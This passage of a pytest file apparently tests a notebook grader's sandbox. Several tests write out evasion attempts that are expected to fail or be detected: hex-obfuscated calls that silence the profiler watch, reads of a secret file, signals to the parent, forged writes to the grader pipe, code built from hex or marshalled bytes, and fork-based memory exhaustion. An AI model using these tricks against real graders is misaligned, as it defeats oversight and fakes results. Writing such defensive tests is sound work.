    assert rc == 0 and r["score"] == 0 and r["needs_human_review"], r


def test_a_graded_call_runs_in_a_process_of_its_own_with_no_files_programs_or_grader_pipes(tmp_path):
    """Each clean-room call runs in a process forked for it (``_worker._call_apart``): the grader's
    pipes are closed there, and a seccomp filter refuses files (the engine's sources), programs and
    signals to other processes. Whatever the call does, its process's report is all that comes back,
    and a process that ends without one is the call's error."""
    import signal

    from minillm.grading import _worker
    from minillm.grading import jail as jail_mod

    if not jail_mod.call_filter():
        pytest.skip("no seccomp program for this machine")
    secret = tmp_path / "secret.txt"
    secret.write_text("engine source")
    r, w = os.pipe()

    def attempts():
        import operator

        operator.methodcaller("set" + "profile", None)(sys)  # the watch silenced, with no event to see
        found = []
        for what, act in (("open", lambda: open(secret).read()), ("exec", lambda: os.execv("/bin/true", ["true"])),
                          ("signal", lambda: os.kill(os.getppid(), signal.SIGSTOP)),
                          ("grader pipe", lambda: os.write(w, b"forged")), ("socket", lambda: socket.socket())):
            try:
                act()
                found.append(what)
            except OSError:
                pass
        raise ValueError(f"reached: {found}")

    try:
        report = _worker._call_apart(attempts, (), {}, [], (w,))
        assert report[-1]["op"] == "raised" and "reached: []" in report[-1]["error"], report  # every attempt failed
        assert any("profiler was removed" in str(n.get("what")) for n in report[:-1]), report
        os.set_blocking(r, False)
        with pytest.raises(BlockingIOError):
            os.read(r, 10)  # nothing reached the "grader's" pipe
    finally:
        os.close(r)
        os.close(w)
    ended = _worker._call_apart(lambda: os._exit(0), (), {}, [], ())
    assert ended[-1]["op"] == "raised" and "without returning" in ended[-1]["error"]
    assert _worker._call_apart(lambda x: x * 2, (21,), {}, [], ()) == [{"op": "returned", "value": {"t": "int", "v": "42"}}]


def test_a_graded_call_cannot_make_code_from_text_even_with_its_watch_silenced():
    """A copy of the engine can hide as data that no reading before the call recognises (an encoded
    string, marshalled bytes) and run with the watch silenced. A graded call's process refuses code
    made from text or bytes (``engine_guard.refuse_new_code``: an audit hook, which no call can
    remove): exec, eval, compile, marshal, the code and function constructors; ordinary code,
    nested functions and lambdas included, still runs."""
    import marshal

    from minillm.grading import _worker

    hidden = "def _tp(x):\n    return x * 2\n".encode().hex()
    frozen = marshal.dumps((lambda x: x * 2).__code__)

    def attempts():
        import operator

        operator.methodcaller("set" + "profile", None)(sys)  # the watch silenced, with no event to see
        made = []
        code = (lambda: 0).__code__
        for what, act in (("exec", lambda: exec(bytes.fromhex(hidden).decode(), {})),
                          ("eval", lambda: eval("1 + 1")),
                          ("compile", lambda: compile("1", "<x>", "eval")),
                          ("marshal", lambda: marshal.loads(frozen)),
                          ("code.replace", lambda: code.replace(co_consts=(1,))),
                          ("FunctionType", lambda: type(attempts)(code, {}))):
            try:
                act()
                made.append(what)
            except RuntimeError:
                pass
        inner = [(lambda v: v + 1)(1), sum(i for i in range(3))]  # a lambda and a generator: ordinary code
        raise ValueError(f"made: {made}; ordinary: {inner}")

    report = _worker._call_apart(attempts, (), {}, [], ())
    assert report[-1]["op"] == "raised" and "made: []; ordinary: [2, 3]" in report[-1]["error"], report
    assert _worker._call_apart(lambda x: [y * 2 for y in x], ([1, 2],), {}, [], ())[-1]["op"] == "returned"


PASTED_AND_SILENCED = """
import operator, sys, torch
NEG_INF = float('-inf')
def _tp(logits, top_p):  # the engine's top_p_filter, pasted under another name
    p = torch.as_tensor(top_p, device=logits.device, dtype=torch.float32)
    sorted_logits, order = logits.sort(dim=-1, descending=True)
    probs = sorted_logits.float().softmax(dim=-1)
    mass_before = probs.cumsum(dim=-1) - probs
    remove_sorted = mass_before >= p.reshape(*p.shape, 1) if p.dim() else mass_before >= p
    remove_sorted[..., 0] = False
    remove = torch.zeros_like(remove_sorted).scatter(-1, order, remove_sorted)
    return logits.masked_fill(remove, NEG_INF)
def my_top_p_filter(logits, top_p):  # the watch silenced around the copy and put back (no event either way)
    w = operator.methodcaller(bytes.fromhex('67657470726f66696c65').decode())(sys)
    operator.methodcaller(bytes.fromhex('73657470726f66696c65').decode(), None)(sys)
    try:
        return _tp(logits, top_p)
    finally:
        operator.methodcaller(bytes.fromhex('73657470726f66696c65').decode(), w)(sys)
"""


def test_a_pasted_copy_of_the_engine_is_seen_before_the_call_not_only_during_it():
    """A call can silence its watch and put it back through C trampolines, so a pasted copy of the
    engine's function ran unseen (3/3, no flag). The clean room now reads the rebuilt functions' code
    for copies before calling (``engine_guard.copies_in``); an honest filter has none."""
    import torch

    from minillm.grading import _worker
    from minillm.grading.ch04.coding import FORBIDDEN
    from minillm.grading.engine_guard import copies_in

    sys.path.insert(0, str(REPO / "tests" / "solved"))
    from answers import SOLVED_ANSWERS

    ns: dict = {}
    exec(compile(PASTED_AND_SILENCED, "<cell>", "exec", dont_inherit=True), ns)
    blind = _worker._call_apart(ns["my_top_p_filter"], (torch.tensor([3.0, 1.0, 0.5]), 0.5), {},
                                list(FORBIDDEN["my_top_p_filter"]), ())
    assert blind[-1]["op"] == "returned", blind  # the watch saw nothing: why the code is read first
    assert copies_in([ns["my_top_p_filter"], *ns.values()]) == ["minillm.sampler.top_p_filter (copied)"]
    honest: dict = {}
    exec(compile(SOLVED_ANSWERS["code_top_p"], "<cell>", "exec", dont_inherit=True), honest)
    assert copies_in([honest["my_top_p_filter"], *honest.values()]) == []


def test_only_code_a_cell_defines_is_rebuilt_in_the_clean_room():
    """The clean room takes bytecode only from its own compile of the notebook's cells: code the
    kernel made up (which could read or write any memory) is refused; a cell's function, its helper
    and its library references come back."""
    import types

    from minillm.grading import export

    cell = "import math\nSCALE = 2\ndef helper(x):\n    return math.sqrt(x)\ndef f(x, k=3):\n    return helper(x) * SCALE + k"
    ns: dict = {}
    exec(compile(cell, "<cell>", "exec", dont_inherit=True), ns)
    payload = json.loads(json.dumps(export.export(ns["f"], ns)))
    rebuilt = export.rebuild(payload, export.trusted_code([cell]))
    assert rebuilt(16.0) == ns["f"](16.0) == 11.0 and rebuilt is not ns["f"]
    made_up = types.FunctionType(ns["f"].__code__.replace(co_consts=(None, 99)), ns, "f")
    with pytest.raises(export.Unexportable, match="not code a cell"):
        export.rebuild(export.export(made_up, ns), export.trusted_code([cell]))
    with pytest.raises(export.Unexportable):
        export.export(lambda x: x, ns)  # not the notebook's namespace
    ns["SCALE"] = object()
    with pytest.raises(export.Unexportable, match="made by the notebook"):
        export.export(ns["f"], ns)


def _can_make_memory_cgroup() -> bool:
    from minillm.grading.sandbox import _make_memory_cgroup, _remove_cgroup

    path = _make_memory_cgroup(2**30)
    _remove_cgroup(path)
    return path is not None


MEMORY_HOGS = """
import os
children = []
for _ in range(3):  # each under the per-process limit; together over the kernel's memory cgroup
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(700 * 2**20)
            for i in range(0, len(block), 4096):
                block[i] = 1
        finally:
            os._exit(0)
    children.append(pid)
task2_kv_explain = str([os.waitpid(pid, 0)[1] for pid in children])
"""


@pytest.mark.skipif(not _can_make_memory_cgroup(), reason="no memory cgroup can be made here (the kernel then has "
                                                          "only its per-process limits)")
def test_the_kernels_processes_together_stop_at_its_memory_limit(tmp_path, monkeypatch):
    from minillm.grading import sandbox

    monkeypatch.setattr(sandbox, "MEMORY_CGROUP_LIMIT", 1536 * 2**20)
    rc, report = grade(write_notebook(tmp_path, MEMORY_HOGS), *([] if JAIL else ["--unjailed"]))
    assert rc == 0
    assert "9" in answer(report) or report["cell_errors"], (answer(report), report["cell_errors"])
